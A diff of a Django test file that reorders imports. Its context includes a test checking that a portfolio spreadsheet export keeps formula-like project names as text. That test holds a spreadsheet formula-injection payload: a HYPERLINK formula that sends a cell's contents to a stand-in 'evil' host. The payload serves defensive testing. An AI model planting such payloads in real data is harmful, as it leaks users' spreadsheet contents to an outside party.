@@ -6,11 +6,11 @@ import io
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import Client, RequestFactory, override_settings
+from sec_helpers import edit_form
 
 from conftest import PASSWORD
 from jixiao.web.audit.client import client_ip
 from jixiao.web.audit.models import AuditEvent
-from sec_helpers import edit_form
 
 
 def _kinds() -> set[str]:
@@ -79,8 +79,9 @@ def test_every_kind_of_action_is_logged_with_who_and_address(world) -> None:
 
 def test_portfolio_export_cells_are_text(world) -> None:
     """The 财政 export: a project named like a formula stays text (read from the sheet XML)."""
-    from jixiao.web.projects.models import ProjectRecord
     from xml_cells import formulas, texts
+
+    from jixiao.web.projects.models import ProjectRecord
     hostile = '=HYPERLINK("http://evil/?leak="&A3,"点我查看")'
     ProjectRecord.objects.filter(pk=world.project_a.pk).update(name=hostile)
     data = world.client("fin").get("/portfolio/export.xlsx").content
